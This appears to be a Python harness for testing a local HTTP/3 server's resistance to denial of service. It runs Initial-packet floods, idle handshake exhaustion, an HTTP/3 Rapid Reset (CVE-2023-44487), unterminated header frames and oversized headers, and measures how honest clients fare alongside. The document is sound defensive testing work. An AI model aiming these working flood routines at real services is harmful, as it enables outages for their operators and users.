"""Attacks on HTTP/3, with honest visitors of HTTP/3 in a process beside: quic.py ATTACK PORT SECONDS.

The last line says what was sent, how often the server had a visitor prove its address (Retry; RFC 9000, 8.1.2), how often it ended a
connection, and how the honest visitors fared.
"""

import asyncio
import multiprocessing
import random
import select
import socket
import ssl
import sys
import time

from aioquic.asyncio import QuicConnectionProtocol
from aioquic.asyncio.client import connect
from aioquic.buffer import encode_uint_var
from aioquic.h3.connection import H3Connection
from aioquic.h3.events import DataReceived
from aioquic.quic.configuration import QuicConfiguration
from aioquic.quic.connection import QuicConnection
from aioquic.quic.events import ConnectionTerminated, HandshakeCompleted

ATTACK, PORT, SECONDS = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
SERVER = ("127.0.0.1", PORT)
CANCELLED = 0x10C
REQUEST = [
    (b":method", b"GET"),
    (b":scheme", b"https"),
    (b":authority", b"localhost"),
    (b":path", b"/"),
]
COUNTS = {"sent": 0, "retries": 0, "ended": 0}


def configuration():
    return QuicConfiguration(
        is_client=True, alpn_protocols=["h3"], verify_mode=ssl.CERT_NONE, server_name="localhost", idle_timeout=20
    )


def is_retry(packet):
    """A long header of that type (RFC 9000, 17.2.5)."""
    return len(packet) > 6 and packet[0] & 0xF0 == 0xF0


def stranger():
    """A socket of an address that nobody else has: all of 127.0.0.0/8 is this machine."""
    stream = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    stream.bind((f"127.{random.randint(1, 250)}.{random.randint(0, 250)}.{random.randint(2, 250)}", 0))
    stream.setblocking(False)
    return stream


def first_packet():
    quic = QuicConnection(configuration=configuration())
    quic.connect(SERVER, now=time.time())
    return quic, quic.datagrams_to_send(now=time.time())[0][0]


def first_packets(until):
    """A hundred that are made before the first is sent, so that they come at once however slow this is; then one by one."""
    yield from [first_packet() for _ in range(100)]
    while time.monotonic() < until:
        yield first_packet()


def heard(stream, within=0.0):
    ready, _, _ = select.select([stream], [], [], within)
    try:
        return stream.recv(65536) if ready else None
    except OSError:
        return None


def initials(until):
    """First packets of visitors who are never heard of again."""
    strangers = []
    for _, packet in first_packets(until):
        stream = stranger()
        stream.sendto(packet, SERVER)
        COUNTS["sent"] += 1
        strangers.append(stream)
        if len(strangers) > 100:
            leave(strangers.pop(0))
    # What is on its way arrives.
    time.sleep(1)
    for stream in strangers:
        leave(stream)


def leave(stream):
    COUNTS["retries"] += is_retry(heard(stream) or b"")
    stream.close()


def handshakes(until):
    """Visitors who prove their address and then say nothing more; none leaves."""
    strangers = []
    for quic, packet in first_packets(until):
        stream = stranger()
        stream.sendto(packet, SERVER)
        answer = heard(stream, 0.05)
        if answer and is_retry(answer):
            COUNTS["retries"] += 1
            quic.receive_datagram(answer, SERVER, now=time.time())
            for again, _ in quic.datagrams_to_send(now=time.time()):
                stream.sendto(again, SERVER)
        COUNTS["sent"] += 1
        strangers.append(stream)
        if len(strangers) > 800:
            strangers.pop(0).close()


class Peer:
    """A connection that is made, and ends when the server wants it to."""

    def __init__(self):
        self.quic = QuicConnection(configuration=configuration())
        self.http = None
        self.ended = False
        self.stream = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.stream.setblocking(False)
        self.quic.connect(SERVER, now=time.time())
        until = time.monotonic() + 10
        while self.http is None and not self.ended and time.monotonic() < until:
            self.turn(0.02)

    def turn(self, within=0.0):
        for packet, _ in self.quic.datagrams_to_send(now=time.time()):
            self.stream.sendto(packet, SERVER)
        while (packet := heard(self.stream, within)) is not None:
            within = 0.0
            COUNTS["retries"] += is_retry(packet)
            self.quic.receive_datagram(packet, SERVER, now=time.time())
        timer = self.quic.get_timer()
        if timer is not None and timer < time.time():
            self.quic.handle_timer(now=time.time())
        while (event := self.quic.next_event()) is not None:
            if isinstance(event, HandshakeCompleted):
                self.http = H3Connection(self.quic)
            elif isinstance(event, ConnectionTerminated):
                self.ended = True

    def may_ask(self):
        return self.quic.get_next_available_stream_id() // 4 < self.quic._remote_max_streams_bidi


def on_connections(until, attack):
    while time.monotonic() < until:
        peer = Peer()
        while peer.http is not None and not peer.ended and time.monotonic() < until:
            for _ in range(20):
                if peer.may_ask():
                    attack(peer)
                    COUNTS["sent"] += 1
            peer.turn(0.001)
        COUNTS["ended"] += peer.ended
        peer.stream.close()


def reset(peer):
    number = peer.quic.get_next_available_stream_id()
    peer.http.send_headers(number, REQUEST)
    peer.quic.reset_stream(number, CANCELLED)
    peer.quic.stop_stream(number, CANCELLED)


def rapid_reset(until):
    """CVE-2023-44487 over HTTP/3: requests that are taken back at once."""
    on_connections(until, reset)


def unended(peer):
    number = peer.quic.get_next_available_stream_id()
    head = encode_uint_var(1) + encode_uint_var(28 << 10) + bytes(20 << 10)
    peer.quic.send_stream_data(number, head)


def heads(until):
    """Heads of many bytes that do not end."""
    on_connections(until, unended)


def large(peer):
    number = peer.quic.get_next_available_stream_id()
    peer.http.send_headers(number, [*REQUEST, *((b"x-%d" % n, b"y" * 150) for n in range(90))], end_stream=True)


def large_heads(until):
    """Heads as long as they may be, one after the other."""
    on_connections(until, large)


# Honest visitors.


class Honest(QuicConnectionProtocol):
    def quic_event_received(self, event):
        if isinstance(event, HandshakeCompleted):
            self.http = H3Connection(self._quic)
        for what in self.http.handle_event(event) if hasattr(self, "http") else []:
            if isinstance(what, DataReceived) and what.stream_ended:
                self.answered.set_result(None)

    async def ask(self):
        self.answered = asyncio.get_running_loop().create_future()
        self.http.send_headers(self._quic.get_next_available_stream_id(), REQUEST, end_stream=True)
        self.transmit()
        await self.answered


async def honest(stop, counts):
    while not stop.is_set():
        try:
            async with asyncio.timeout(20), connect(
                *SERVER, configuration=configuration(), create_protocol=Honest
            ) as visitor:
                for _ in range(5):
                    await visitor.ask()
                    counts[0] += 1
        except (OSError, ConnectionError, TimeoutError, AssertionError) as error:
            counts[1] += 1
            print(f"honest visitor: {error!r}", file=sys.stderr)


async def two(stop, counts):
    await asyncio.gather(*(honest(stop, counts) for _ in range(2)))


def visit(stop, counts):
    asyncio.run(two(stop, counts))


def main():
    stop, counts = multiprocessing.Event(), multiprocessing.Array("i", 2)
    beside = multiprocessing.Process(target=visit, args=(stop, counts))
    beside.start()
    attack = globals()[ATTACK.removeprefix("quic-").replace("-", "_")]
    attack(time.monotonic() + SECONDS)
    stop.set()
    beside.join(60)
    if not COUNTS["sent"]:
        sys.exit("nothing was sent")
    print(
        f"{COUNTS['sent']} sent, {COUNTS['retries']} asked to come again, {COUNTS['ended']} connections ended by the server; "
        f"honest by HTTP/3: {counts[0]} answered, {counts[1]} failed"
    )


main()
